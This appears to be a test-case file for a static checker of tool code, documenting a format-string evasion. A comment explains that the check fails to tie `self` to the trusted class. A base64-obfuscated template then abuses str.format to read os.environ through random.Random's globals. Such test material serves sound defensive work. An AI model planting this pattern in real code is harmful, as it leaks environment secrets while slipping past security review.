# family: format
# Escape: `self.template.format(...)` is trusted when *some* class of the tool binds `template` to a constant
# and no attribute store to that name is seen. The check does not tie `self` to that class: here `self` is a
# parameter of a module function, filled with a SimpleNamespace whose keyword argument (not an attribute
# store) carries "{0.__init__.__globals__[_os].environ}". str.format then reads os.environ.
import base64
import random
import types


class Defaults:
    template = "{0}"


def render(self, value) -> str:
    return self.template.format(value)


def tool() -> str:
    spec = types.SimpleNamespace(template=base64.b64decode("ezAuX19pbml0X18uX19nbG9iYWxzX19bX29zXS5lbnZpcm9ufQ==").decode())
    return render(spec, random.Random())
